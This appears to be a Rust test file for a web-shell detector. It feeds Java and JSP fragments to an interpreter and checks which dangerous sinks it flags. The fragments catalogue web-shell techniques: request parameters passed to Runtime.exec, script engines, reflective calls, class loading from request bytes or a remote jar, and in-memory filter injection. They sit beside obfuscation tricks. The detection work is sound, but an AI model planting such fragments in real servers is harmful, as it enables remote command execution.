//! One source and one sink a row; inert fragments that no server would run.

use proptest::prelude::*;

use crate::interpret::Interpreter;
use crate::language::Language;
use crate::limits::Limits;
use crate::parse::{Piece, parse};

/// The hits of a page, and what decides them: capability, callee, kind and name of the source, control, facts. `<EL>` is an
/// expression of a page.
pub(super) fn check(rows: &[(&str, &str)]) {
    for (source, expected) in rows {
        let hits: Vec<_> = walked(source).hits.iter().map(crate::library::told).collect();
        assert_eq!(hits.join("; "), *expected, "{source}");
    }
}

pub(super) fn walked(source: &str) -> Interpreter<'static> {
    let (source, piece) = match source.strip_prefix("<EL>") {
        Some(expression) => (expression, Piece::Echo(0..expression.len())),
        None => (source, Piece::Code(0..source.len())),
    };
    let mut it = Interpreter::new(Language::Java, &LIMITS, &|_| None);
    let program = parse(Language::Java, source.as_bytes(), &[piece]);
    it.run(source.as_bytes().into(), &program, &Default::default());
    it
}

const LIMITS: Limits =
    Limits { steps: 1_000_000, time: None, made_bytes: 1 << 20, layers: 8, file_bytes: 1 << 20, walk_all: true };

#[test]
fn sources() {
    check(&[
        (r#"Runtime.getRuntime().exec(request.getParameter("a"));"#, "Command Runtime.exec Parameter a Whole"),
        (r#"Runtime.getRuntime().exec(request.getHeader("a"));"#, "Command Runtime.exec Header a Whole"),
        ("Runtime.getRuntime().exec(request.getQueryString());", "Command Runtime.exec Parameter querystring Whole"),
        ("Runtime.getRuntime().exec(request.getReader().readLine());", "Command Runtime.exec Body  Whole"),
        (
            "Map<String, String[]> m = request.getParameterMap(); for (String k : m.keySet()) Runtime.getRuntime().exec(m.get(k)[0]);",
            "Command Runtime.exec Parameter  Whole",
        ),
        (
            r#"for (Cookie c : request.getCookies()) if (c.getName().equals("x")) Runtime.getRuntime().exec(c.getValue());"#,
            "Command Runtime.exec Cookie  Whole",
        ),
        (
            r#"request.getSession().setAttribute("k", request.getParameter("a")); Runtime.getRuntime().exec((String) session.getAttribute("k"));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"boolean equals(Object o) { PageContext p = (PageContext) o; Runtime.getRuntime().exec(p.getRequest().getParameter("a")); return true; }"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"@RequestMapping("/x") void go(String a) { Runtime.getRuntime().exec(a); }"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        ("void go(String a) { Runtime.getRuntime().exec(a); }", "Command Runtime.exec uncalled"),
        ("<EL>Runtime.getRuntime().exec(cookie.x.value)", "Command Runtime.exec Cookie x Whole"),
        (r#"<EL>Runtime.getRuntime().exec(header["x"])"#, "Command Runtime.exec Header x Whole"),
        ("<EL>Runtime.getRuntime().exec(pageContext.request.queryString)", "Command Runtime.exec Parameter querystring Whole"),
        (
            "void h(HttpExchange x) { Runtime.getRuntime().exec(new String(x.getRequestBody().readAllBytes())); }",
            "Command Runtime.exec Body  Whole uncalled",
        ),
    ]);
}

#[test]
fn flows() {
    check(&[
        (
            r#"StringBuilder s = new StringBuilder(); s.append(request.getParameter("a")).append(" x"); Runtime.getRuntime().exec(s.toString());"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"Runtime.getRuntime().exec(String.format("%s -c %s", "sh", request.getParameter("a")));"#,
            "Command Runtime.exec Parameter a Part",
        ),
        (r#"Runtime.getRuntime().exec(request.getParameter("a").split("&"));"#, "Command Runtime.exec Parameter a Whole"),
        (
            r#"Runtime.getRuntime().exec(new String(java.util.Base64.getDecoder().decode(request.getParameter("a"))));"#,
            "Command Runtime.exec Parameter a Whole decoded",
        ),
        (
            r#"Runtime.getRuntime().exec(new String(new sun.misc.BASE64Decoder().decodeBuffer(request.getParameter("a"))));"#,
            "Command Runtime.exec Parameter a Whole decoded",
        ),
        (
            r#"Runtime.getRuntime().exec(URLDecoder.decode(request.getParameter("a"), "UTF-8"));"#,
            "Command Runtime.exec Parameter a Whole decoded",
        ),
        (
            r#"String s = request.getParameter("a"); byte[] b = new byte[s.length() / 2]; for (int i = 0; i < b.length; i++) b[i] = (byte) Integer.parseInt(s.substring(2 * i, 2 * i + 2), 16); Runtime.getRuntime().exec(new String(b));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"String k = "ab"; char[] c = request.getParameter("a").toCharArray(); StringBuilder o = new StringBuilder(); for (int i = 0; i < c.length; i++) o.append((char) (c[i] ^ k.charAt(i % k.length()))); Runtime.getRuntime().exec(o.toString());"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            "InputStream in = request.getInputStream(); byte[] b = new byte[10]; int n; ByteArrayOutputStream o = new ByteArrayOutputStream(); while ((n = in.read(b)) != -1) o.write(b, 0, n); Runtime.getRuntime().exec(o.toString());",
            "Command Runtime.exec Body  Whole",
        ),
        (
            r#"Scanner s = new Scanner(new GZIPInputStream(request.getInputStream())).useDelimiter("x"); Runtime.getRuntime().exec(s.next());"#,
            "Command Runtime.exec Body  Whole decoded",
        ),
        (
            r#"List l = new ArrayList(); l.add("sh"); l.add(request.getParameter("a")); new ProcessBuilder(l).start();"#,
            "Command ProcessBuilder.start Parameter a Whole",
        ),
        (
            r#"class A { String theCmd; void go() { Runtime.getRuntime().exec(theCmd); } void doGet(HttpServletRequest q, HttpServletResponse r) { theCmd = q.getParameter("a"); go(); } }"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"class A { String theCmd; void set(HttpServletRequest q) { theCmd = q.getParameter("a"); } void doGet(HttpServletRequest q, HttpServletResponse r) { theCmd = "x"; set(q); Runtime.getRuntime().exec(theCmd); } }"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"class A { String c; A(String c) { this.c = c; } void run() { Runtime.getRuntime().exec(c); } } new A(request.getParameter("a")).run();"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"void f(String a) { f(a, "x"); } void f(String a, String b) { Runtime.getRuntime().exec(a); } f(request.getParameter("a"));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"Function<String, Process> f = s -> Runtime.getRuntime().exec(s); f.apply(request.getParameter("a"));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"Optional.ofNullable(request.getParameter("a")).map(s -> Runtime.getRuntime().exec(s));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"Stream.of(request.getParameter("a")).map(s -> s.trim()).forEach(s -> Runtime.getRuntime().exec(s));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"new Thread(new Runnable() { public void run() { Runtime.getRuntime().exec(request.getParameter("a")); } }).start();"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (r#"Runtime.getRuntime().exec("x" + Integer.parseInt(request.getParameter("a")));"#, "Command Runtime.exec"),
    ]);
}

#[test]
fn reflection() {
    check(&[
        (
            r#"Class.forName("java.lang.Ru" + "ntime").getMethod("ex" + "ec", String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), request.getParameter("a"));"#,
            "Command Runtime.exec Parameter a Whole computed",
        ),
        (
            r#"Class c = Class.forName("java.lang.ProcessImpl"); Method m = c.getDeclaredMethod("start", String[].class); m.setAccessible(true); m.invoke(null, new Object[]{new String[]{request.getParameter("a")}});"#,
            "Command ProcessImpl Parameter a Whole",
        ),
        (
            r#"for (Method m : Class.forName("java.lang.Runtime").getDeclaredMethods()) if (m.getName().length() == 4) m.invoke(Runtime.getRuntime(), request.getParameter("a"));"#,
            "Command Runtime.exec Parameter a Whole computed",
        ),
        (
            r#"new java.beans.Expression(Runtime.getRuntime(), "ex" + "ec", new Object[]{request.getParameter("a")}).getValue();"#,
            "Command Runtime.exec Parameter a Whole computed",
        ),
        (
            r#"MethodHandles.lookup().findVirtual(Runtime.class, "exec", t).invoke(Runtime.getRuntime(), request.getParameter("a"));"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"Class u = Class.forName("javax.script.ScriptEngineManager"); Object m = u.newInstance(); Object e = u.getMethod("getEngineByName", String.class).invoke(m, "js"); e.getClass().getMethod("eval", String.class).invoke(e, request.getParameter("a"));"#,
            "Code ScriptEngine.eval Parameter a Whole",
        ),
        (
            r#"Class c = Class.forName(request.getParameter("c")); c.getMethod(request.getParameter("m"), String.class).invoke(c.newInstance(), request.getParameter("a"));"#,
            "Invoke Class.newInstance Parameter c Whole name; Invoke Method.invoke Parameter m Whole also name",
        ),
        (
            "<EL>''.getClass().forName('java.lang.Runtime').getMethod('exec', ''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null), param.a)",
            "Command Runtime.exec Parameter a Whole",
        ),
    ]);
}

#[test]
fn commands() {
    check(&[
        (
            r#"Runtime.getRuntime().exec(new String[]{"sh", "-c", request.getParameter("a")});"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (
            r#"String[] c = new String[2]; c[0] = "sh"; c[1] = request.getParameter("a"); Runtime.getRuntime().exec(c);"#,
            "Command Runtime.exec Parameter a Whole",
        ),
        (r#"new ProcessBuilder("sh", "-c", request.getHeader("a")).start();"#, "Command ProcessBuilder.start Header a Whole"),
        (
            r#"ProcessBuilder b = new ProcessBuilder(); b.command(request.getParameter("a")); b.start();"#,
            "Command ProcessBuilder.start Parameter a Whole",
        ),
        (
            r#"new ProcessBuilder(Arrays.asList("sh", request.getParameter("a"))).start();"#,
            "Command ProcessBuilder.start Parameter a Whole",
        ),
        (
            r#"Process p = Runtime.getRuntime().exec("sh"); p.getOutputStream().write(request.getParameter("a").getBytes());"#,
            "Command Runtime.exec; Command Process.getOutputStream Parameter a Whole",
        ),
        (r#"System.load(request.getParameter("a"));"#, "Native System.load Parameter a Whole"),
    ]);
}

#[test]
fn code() {
    check(&[
        (
            r#"new ScriptEngineManager().getEngineByName("js").eval(request.getParameter("a"));"#,
            "Code ScriptEngine.eval Parameter a Whole",
        ),
        (
            r#"ScriptEngine e = new ScriptEngineManager().getEngineByName("js"); e.put("c", request.getParameter("a")); e.eval("java.lang.Runtime.getRuntime().exec(c)");"#,
            "Code ScriptEngine.eval; Command Runtime.exec Parameter a Whole",
        ),
        ("new GroovyShell().evaluate(request.getReader().readLine());", "Code GroovyShell.evaluate Body  Whole"),
        (r#"new ELProcessor().eval(request.getParameter("a"));"#, "Code ELProcessor.eval Parameter a Whole"),
        (
            r#"new SpelExpressionParser().parseExpression(request.getParameter("a")).getValue();"#,
            "Code Expression.getValue Parameter a Whole",
        ),
        (
            r#"ExpressionFactory f = x.getExpressionFactory(); f.createValueExpression(c, request.getParameter("a"), String.class).getValue(c);"#,
            "Code Expression.getValue Parameter a Whole",
        ),
        (
            r#"ScriptEngine e = new ScriptEngineManager().getEngineByName("js"); ((Invocable) e).invokeFunction("f", request.getParameter("a"));"#,
            "Invoke Invocable.invokeFunction Parameter a Whole also",
        ),
        (r#"new JellyContext().runScript(request.getParameter("a"), o);"#, "Code JellyContext.runScript Parameter a Whole"),
        (r#"MVEL.eval(request.getParameter("a"));"#, "Code MVEL.eval Parameter a Whole"),
        (r#"JShell.builder().build().eval(request.getParameter("a"));"#, "Code JShell.eval Parameter a Whole"),
        (
            r#"new XMLDecoder(new ByteArrayInputStream(request.getParameter("a").getBytes())).readObject();"#,
            "Deserialise XMLDecoder.readObject Parameter a Whole also",
        ),
        (
            "new ObjectInputStream(request.getInputStream()).readObject();",
            "Deserialise ObjectInputStream.readObject Body  Whole also",
        ),
    ]);
}

#[test]
fn loading() {
    check(&[
        (
            r#"class U extends ClassLoader { U(ClassLoader c) { super(c); } Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } new U(this.getClass().getClassLoader()).g(request.getParameter("a").getBytes()).newInstance();"#,
            "Load ClassLoader.defineClass Parameter a Whole",
        ),
        (
            r#"class U extends ClassLoader { Class defineClass(byte[] b) { return defineClass(b, 0, b.length); } } new U().defineClass(Cipher.getInstance("AES").doFinal(request.getParameter("a").getBytes()));"#,
            "Load ClassLoader.defineClass Parameter a Whole decoded",
        ),
        (
            r#"Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.invoke(Thread.currentThread().getContextClassLoader(), Base64.getDecoder().decode("yv66vgAAADQ="), 0, 5);"#,
            "Load ClassLoader.defineClass decoded",
        ),
        (
            r#"Field f = Unsafe.class.getDeclaredField("theUnsafe"); f.setAccessible(true); ((Unsafe) f.get(null)).defineAnonymousClass(String.class, request.getParameter("a").getBytes(), null);"#,
            "Load Unsafe.defineClass Parameter a Whole",
        ),
        (
            r#"new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(request.getParameter("a")).newInstance();"#,
            "Load bcel.ClassLoader.loadClass Parameter a Whole decoded",
        ),
        (
            r#"new URLClassLoader(new URL[]{new URL(request.getParameter("a"))}).loadClass("X").newInstance();"#,
            "Load URLClassLoader.loadClass Parameter a Whole",
        ),
        (
            r#"TemplatesImpl t = new TemplatesImpl(); Field f = t.getClass().getDeclaredField("_bytecodes"); f.set(t, new byte[][]{request.getParameter("a").getBytes()}); t.newTransformer();"#,
            "Load TemplatesImpl.newTransformer Parameter a Whole",
        ),
        (
            r#"URLClassLoader.newInstance(new URL[]{new URL("http://192.0.2.1/a.jar")}).loadClass("X").newInstance();"#,
            "Load URLClassLoader.loadClass Remote  Whole",
        ),
        (
            r#"new URLClassLoader(new URL[]{new URL("file:/a.jar")}).loadClass("X").newInstance();"#,
            "Load URLClassLoader.loadClass",
        ),
        (r#"new MLet().getMBeansFromURL(request.getParameter("a"));"#, "Load MLet.getMBeansFromURL Parameter a Whole"),
        (r#"new InitialContext().lookup(request.getParameter("a"));"#, "Load InitialContext.lookup Parameter a Whole"),
        (r#"new InitialContext().lookup("java:comp/env/a");"#, ""),
    ]);
}

#[test]
fn resident() {
    check(&[
        (
            r#"application.addFilter("x", new Filter() { public void doFilter(ServletRequest a, ServletResponse b, FilterChain c) { Runtime.getRuntime().exec(a.getParameter("z")); } });"#,
            "Resident addFilter; Command Runtime.exec Parameter z Whole",
        ),
        (
            "StandardContext s = (StandardContext) f.get(o); s.addFilterDef(d); s.addFilterMapBefore(m);",
            "Resident addFilterDef; Resident addFilterMap",
        ),
        (
            r#"class W { @OnMessage public void onMessage(String a) { Runtime.getRuntime().exec(a); } } container.addEndpoint(ServerEndpointConfig.Builder.create(W.class, "/x").build());"#,
            "Resident addEndpoint; Command Runtime.exec Parameter a Whole",
        ),
        (r#"results.addFilter(request.getParameter("a"), request.getParameter("b"));"#, ""),
    ]);
}

#[test]
fn files() {
    check(&[
        (
            r#"new FileOutputStream(new File(application.getRealPath("/"), request.getParameter("f") + ".jsp")).write(request.getParameter("c").getBytes());"#,
            "Write FileOutputStream.write Parameter f Part also served",
        ),
        (
            r#"new FileOutputStream("x.jsp").write(request.getParameter("c").getBytes());"#,
            "Write FileOutputStream.write Parameter c Whole also served",
        ),
        (
            r#"PrintWriter w = new PrintWriter(new FileWriter(request.getParameter("f"))); w.println(request.getParameter("c"));"#,
            "Write FileOutputStream.write Parameter f Whole also",
        ),
        (
            r#"Files.write(Paths.get("x.jsp"), request.getInputStream().readAllBytes());"#,
            "Write Files.write Body  Whole also served",
        ),
        (
            r#"out.print(new String(Files.readAllBytes(Paths.get(request.getParameter("f")))));"#,
            "Read Files.read Parameter f Whole",
        ),
        (
            r#"for (File f : new File(request.getParameter("d")).listFiles()) f.delete();"#,
            "List File.listFiles Parameter d Whole; Change File.delete Parameter d Part",
        ),
        (
            r#"new File(request.getParameter("a")).renameTo(new File(request.getParameter("b")));"#,
            "Change File.renameTo Parameter a Whole also",
        ),
        (
            r#"for (FileItem i : new ServletFileUpload(f).parseRequest(request)) i.write(new File("/a/" + i.getName()));"#,
            "Upload FileItem.write UploadName name Part also",
        ),
        (
            r#"Part p = request.getPart("f"); p.write("/a/" + p.getSubmittedFileName());"#,
            "Upload FileItem.write UploadName submittedfilename Part also",
        ),
        (
            r#"IOUtils.copy(request.getPart("f").getInputStream(), new FileOutputStream("/a/x.jsp"));"#,
            "Upload FileOutputStream.write Upload  Whole also served",
        ),
        (
            r#"void up(MultipartFile f) { f.transferTo(new File("/a")); }"#,
            "Upload MultipartFile.transferTo Upload  Whole uncalled also",
        ),
    ]);
}

#[test]
fn network() {
    check(&[
        (
            r#"SocketChannel c = SocketChannel.open(); c.connect(new InetSocketAddress(request.getHeader("h"), Integer.parseInt(request.getHeader("p"))));"#,
            "Tunnel Socket.connect Header h Whole also",
        ),
        (r#"new Socket(request.getParameter("h"), 80);"#, "Tunnel Socket Parameter h Whole"),
        (
            r#"HttpURLConnection u = (HttpURLConnection) new URL(request.getParameter("u")).openConnection(); u.getOutputStream().write(request.getReader().read());"#,
            "Tunnel URLConnection Parameter u Whole also",
        ),
        (r#"new URL(request.getParameter("u")).openStream();"#, "Fetch URL.openStream Parameter u Whole"),
        (
            r#"DriverManager.getConnection(request.getParameter("u")).createStatement().executeQuery(request.getParameter("q"));"#,
            "Sql DriverManager.getConnection Parameter u Whole; Sql Statement.execute Parameter q Whole also",
        ),
        (
            r#"Connection c = pool.get(); c.prepareStatement("select " + request.getParameter("q"));"#,
            "Sql Statement.execute Parameter q Part",
        ),
        (
            r#"request.getRequestDispatcher(request.getParameter("p")).forward(request, response);"#,
            "Include RequestDispatcher.forward Parameter p Weak",
        ),
    ]);
}

/// What is computed, as the command that it is handed to.
#[test]
fn computed() {
    for (source, expected) in [
        (r#"Runtime.getRuntime().exec("a" + 'b' + 1);"#, "ab1"),
        (r#"Runtime.getRuntime().exec(new StringBuilder("dim").reverse().toString());"#, "mid"),
        (r#"Runtime.getRuntime().exec(new StringBuffer().append("ab").insert(0, "x").deleteCharAt(1).toString());"#, "xb"),
        ("Runtime.getRuntime().exec(new String(new byte[]{105, 100}));", "id"),
        ("Runtime.getRuntime().exec(new String(new char[]{'i', (char) 100}));", "id"),
        (r#"Runtime.getRuntime().exec("" + (char) ('a' + 1) + (char) ('a' ^ 3));"#, "bb"),
        (
            r#"String s = "636d64"; byte[] b = new byte[s.length() / 2]; for (int i = 0; i < b.length; i++) b[i] = (byte) Integer.parseInt(s.substring(2 * i, 2 * i + 2), 16); Runtime.getRuntime().exec(new String(b));"#,
            "cmd",
        ),
        (
            "byte[] d = {10, 11}; for (int i = 0; i < d.length; i++) d[i] = (byte) (d[i] ^ 107); Runtime.getRuntime().exec(new String(d));",
            "a`",
        ),
        (r#"Runtime.getRuntime().exec(new String(new java.math.BigInteger("6964", 16).toByteArray()));"#, "id"),
        (r#"Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("aWQ=")));"#, "id"),
        (r#"Runtime.getRuntime().exec(new String(javax.xml.bind.DatatypeConverter.parseHexBinary("6964")));"#, "id"),
        (
            r#"Runtime.getRuntime().exec("a-b".replace("-", "").toUpperCase().trim() + "xy".substring(1) + "q,w".split(",")[1]);"#,
            "AByw",
        ),
        (r#"Runtime.getRuntime().exec("a1b2".replaceAll("[0-9]", "").concat("x"));"#, "abx"),
        (r#"Runtime.getRuntime().exec(String.join(" ", "a", "b") + String.valueOf(7) + Integer.toHexString(255));"#, "a b7ff"),
        (r#"Runtime.getRuntime().exec(String.format("%s-%d", "a", 1));"#, "a-1"),
        (r#"Runtime.getRuntime().exec(URLDecoder.decode("%69%64", "UTF-8"));"#, "id"),
        (
            r#"ByteArrayOutputStream o = new ByteArrayOutputStream(); o.write(105); o.write("dx".getBytes(), 0, 1); Runtime.getRuntime().exec(o.toString());"#,
            "id",
        ),
        (
            r#"BufferedReader r = new BufferedReader(new StringReader("i\nd")); String l, s = ""; while ((l = r.readLine()) != null) s += l; Runtime.getRuntime().exec(s);"#,
            "id",
        ),
        (
            r#"StringTokenizer t = new StringTokenizer("i.d", "."); String s = ""; while (t.hasMoreTokens()) s += t.nextToken(); Runtime.getRuntime().exec(s);"#,
            "id",
        ),
        (r#"Map m = new HashMap(); m.put("k", "id"); Runtime.getRuntime().exec((String) m.get("k"));"#, "id"),
        (
            r#"List<String> l = new ArrayList<>(); l.add("i"); l.add("d"); String s = ""; for (String x : l) s += x; Runtime.getRuntime().exec(s);"#,
            "id",
        ),
        (r#"String s = ""; for (int i = 2; i > 0; i--) s += "di".charAt(i - 1); Runtime.getRuntime().exec(s);"#, "id"),
        (
            "byte[] a = {1, 105, 100}; byte[] b = new byte[2]; System.arraycopy(a, 1, b, 0, 2); Runtime.getRuntime().exec(new String(b));",
            "id",
        ),
        (r#"String[] p = {"d", "i"}; Runtime.getRuntime().exec(p[1] + p[0]);"#, "id"),
        (
            r#"StringBuilder s = new StringBuilder(); for (char c : "jed".toCharArray()) s.append((char) (c - 1)); Runtime.getRuntime().exec(s.toString());"#,
            "idc",
        ),
        (r#"int h = "id".hashCode(); if (h == 3355) Runtime.getRuntime().exec("id");"#, "id"),
    ] {
        let arguments: Vec<_> = walked(source).hits.iter().map(|hit| hit.argument.to_string()).collect();
        assert_eq!(arguments.join("; "), expected, "{source}");
    }
}

/// Calls that fit together, and what they are given.
const WORDS: &[&str] = &[
    "request.getParameter(\"a\")",
    "\"text\"",
    "'c'",
    "-1",
    "99999999999",
    "null",
    "x",
    "new byte[9]",
    "new String[]{\"a\", x}",
    "new StringBuilder(x)",
    ".append(x)",
    ".insert(-1, x)",
    ".deleteCharAt(9)",
    ".setLength(-5)",
    ".substring(2, 1)",
    ".charAt(9)",
    ".split(\"\")",
    ".split(\"(\", 3)",
    ".replaceAll(\"$\", \"$9\\\\\")",
    ".getBytes()",
    ".toCharArray()",
    ".getClass()",
    ".getMethod(x)",
    ".invoke(x, x)",
    ".newInstance()",
    "Class.forName(x)",
    "new java.util.ArrayList()",
    ".add(x)",
    ".add(0, x)",
    ".get(9)",
    ".remove(-1)",
    ".iterator()",
    ".next()",
    "new java.util.StringTokenizer(x, \"\")",
    "new String(x, -1, 99)",
    "Integer.parseInt(x, 99)",
    "String.format(\"%9$s %\", x)",
    "String.join(x, x)",
    "new java.math.BigInteger(x, 1).toByteArray()",
    "new java.io.ByteArrayInputStream(x)",
    ".read(x, -1, -1)",
    ".readLine()",
    "new java.util.zip.GZIPInputStream(x)",
    "System.arraycopy(x, -1, x, 9, -9)",
    "x.write(x, 5, -5)",
    "java.util.Arrays.copyOfRange(x, 9, 1)",
    "Math.abs(x)",
    "Character.digit(x, 0)",
    "x[9]",
    "x[-1] = x",
    "x = x + x",
    "(char) (x ^ x)",
    "(byte) x",
    "x += x",
    "x++",
    "for (int i = 0; i < 9; i++) x = x + i",
    "while (true) { if (x) break; }",
    "new Thread(x).start()",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn odd_calls_do_not_panic(words in prop::collection::vec((prop::sample::select(WORDS), any::<bool>()), 1..40)) {
        let source: String = words.iter().map(|(word, ends)| if *ends { format!("x = {word};") } else { format!("{word}\n") }).collect();
        walked(&source);
    }
}
